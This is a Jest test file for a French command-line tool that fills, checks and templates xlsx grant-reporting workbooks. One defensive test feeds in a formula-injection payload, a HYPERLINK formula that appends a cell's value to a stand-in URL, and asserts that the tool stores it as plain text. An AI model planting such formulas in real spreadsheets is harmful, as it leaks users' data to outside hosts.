import { mkdtempSync, readFileSync } from 'fs';
import * as os from 'os';
import * as path from 'path';
import { main } from '../../src/cli/main';
import { readXlsxFile } from '../../src/adapters/xlsx/read-xlsx';
import { writeXlsxFile } from '../../src/adapters/xlsx/write-xlsx';
import { getCell } from '../../src/layout/grid';
import { sampleWith } from '../helpers/sample';

const dir = mkdtempSync(path.join(os.tmpdir(), 'annexes-fill-'));
const SAMPLE = path.join(__dirname, '..', '..', 'samples', 'pas-de-calais-2024.xlsx');
const JOURNAL = 'Journal des dépenses';

async function run(args: string[]) {
  let stdout = '';
  let stderr = '';
  const code = await main(args, { stdout: (s) => (stdout += s), stderr: (s) => (stderr += s) });
  return { code, stdout, stderr };
}

async function findings(file: string) {
  const { code, stdout } = await run(['check', file, '--format', 'json']);
  return { code, findings: JSON.parse(stdout).files[0].findings as { rule: string; severity: string; sheet: string; cell: string }[] };
}

describe('annexes fill', () => {
  const output = path.join(dir, 'rempli.xlsx');

  it('writes the filled copy of the sample and says what it did, in French', async () => {
    const r = await run(['fill', SAMPLE, '-o', output]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`Classeur écrit : ${output}`);
    expect(r.stdout).toMatch(/207 formules de colonnes calculées et de totaux, 1 delta du plan de financement corrigé/);
    expect(r.stdout).toContain('États des dépenses des volets 1, 2 et 3 et bilan financier France Travail : 10 dépenses du journal, 2 écartées (inéligible ou hors période)');
    const grid = await readXlsxFile(output);
    const ft = grid.sheets.find((s) => s.name === 'Construction du plan de finance')!;
    expect(getCell(ft, 18, 6)).toEqual({ value: '330 places' });
    const cls = grid.sheets.find((s) => s.name === 'Tableau financier')!;
    // K = G + J, not the printed G + I.
    expect(getCell(cls, 50, 16)).toMatchObject({ formula: 'L50+O50', value: 618000 });
    expect(grid.sheets.map((s) => s.name)).toEqual(expect.arrayContaining(['Etat des dépenses VOLET 1', 'Etat des dépenses VOLET 2', 'Etat des dépenses VOLET 3', 'Bilan financier FT', 'Contrôles']));
  });

  it('check on the filled workbook reports no CALC-* anomaly, and still the journal’s EXP-* ones', async () => {
    const before = await findings(SAMPLE);
    expect(before.findings.filter((f) => f.rule.startsWith('CALC-')).length).toBe(22);
    const after = await findings(output);
    expect(after.findings.filter((f) => f.rule.startsWith('CALC-') || f.rule === 'PLAN-DELTA')).toEqual([]);
    expect(after.findings.filter((f) => f.rule.startsWith('EXP-')).map((f) => `${f.rule} ${f.cell}`)).toEqual(['EXP-INELIGIBLE D4', 'EXP-PERIOD A11']);
  });

  it('the Contrôles sheet lists the findings of the filled workbook, each cell a link', async () => {
    const grid = await readXlsxFile(output);
    const controls = grid.sheets.find((s) => s.name === 'Contrôles')!;
    const after = await findings(output);
    expect(getCell(controls, 4, 5)?.value).toBe('Message');
    expect(controls.rows.size - 3).toBe(after.findings.length); // title, summary, header
    const row = [...controls.rows.keys()].find((r) => getCell(controls, r, 2)?.value === 'EXP-PERIOD') as number;
    expect(getCell(controls, row, 4)).toEqual({ value: 'A11', formula: `HYPERLINK("#'Journal des dépenses'!A11","A11")` });
  });

  it('text copied from the journal that starts with =, +, - or @ stays text in the « Etat des dépenses »', async () => {
    const input = path.join(dir, 'injection.xlsx');
    const injected = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquer")';
    await writeXlsxFile(sampleWith({ [JOURNAL]: { E2: injected, D3: '@SUM(1,2)', F4: '+33 trajets', E5: '-1 ligne' } }), input);
    const out = path.join(dir, 'injection-rempli.xlsx');
    expect((await run(['fill', input, '-o', out])).code).toBe(0);
    const sheet = (await readXlsxFile(out)).sheets.find((s) => s.name === 'Etat des dépenses VOLET 1')!;
    const all = [...sheet.rows.values()].flatMap((cols) => [...cols.values()]);
    for (const text of [injected, '@SUM(1,2)', '+33 trajets', '-1 ligne']) {
      const cell = all.find((c) => c.value === text);
      expect(cell).toEqual({ value: text });
    }
    expect(all.some((c) => c.formula?.includes('HYPERLINK') || c.formula?.includes('SUM(1,2)'))).toBe(false);
  });

  it('refuses to overwrite its input: exit 2, French message, input untouched', async () => {
    const bytes = readFileSync(SAMPLE);
    for (const out of [SAMPLE, path.join(path.dirname(SAMPLE), '.', path.basename(SAMPLE))]) {
      const r = await run(['fill', SAMPLE, '-o', out]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain("n'écrit jamais sur son entrée");
    }
    expect(readFileSync(SAMPLE).equals(bytes)).toBe(true);
  });

  it('bad arguments and unreadable input: exit 2 with the usage or a French message', async () => {
    expect((await run(['fill', SAMPLE])).stderr).toContain('indiquez le classeur à écrire avec -o');
    expect((await run(['fill', '-o', output])).stderr).toContain('indiquez le classeur .xlsx à remplir');
    expect((await run(['fill', SAMPLE, SAMPLE, '-o', output])).code).toBe(2);
    const missing = await run(['fill', path.join(dir, 'absent.xlsx'), '-o', output]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('est introuvable');
    expect((await run(['fill', '--help'])).stdout).toContain('Usage : annexes fill');
  });
});

describe('annexes template', () => {
  it('writes a blank 2025 model on which check reports no error', async () => {
    const file = path.join(dir, 'modele.xlsx');
    const r = await run(['template', '-o', file, '--year', '2025']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Modèle vierge 2025 écrit');
    const { code, findings: f } = await findings(file);
    expect(code).toBe(0);
    expect(f.filter((x) => x.severity === 'error')).toEqual([]);
    const grid = await readXlsxFile(file);
    expect(grid.sheets.map((s) => s.name)).toEqual([
      'Tableau financier prév. 2025',
      'Tableau financier exéc. 2025',
      'Tableau financier récap. 2025',
      'Plan de financement VOLET 1',
      'Plan de financement VOLET 2',
      'Plan de financement VOLET 3',
      "Plan d'action",
      'Journal des dépenses',
      'Budgets des fiches',
      'Paramètres',
      'Etat des dépenses VOLET 1',
      'Etat des dépenses VOLET 2',
      'Etat des dépenses VOLET 3',
      'Bilan financier FT',
    ]);
    expect(grid.sheets.every((s) => s.name.length <= 31)).toBe(true);
  });

  it('bad arguments: exit 2 with the usage', async () => {
    expect((await run(['template'])).stderr).toContain('indiquez le fichier à écrire avec -o');
    const r = await run(['template', '-o', path.join(dir, 'x.xlsx'), '--year', '25']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('année sur quatre chiffres');
  });
});
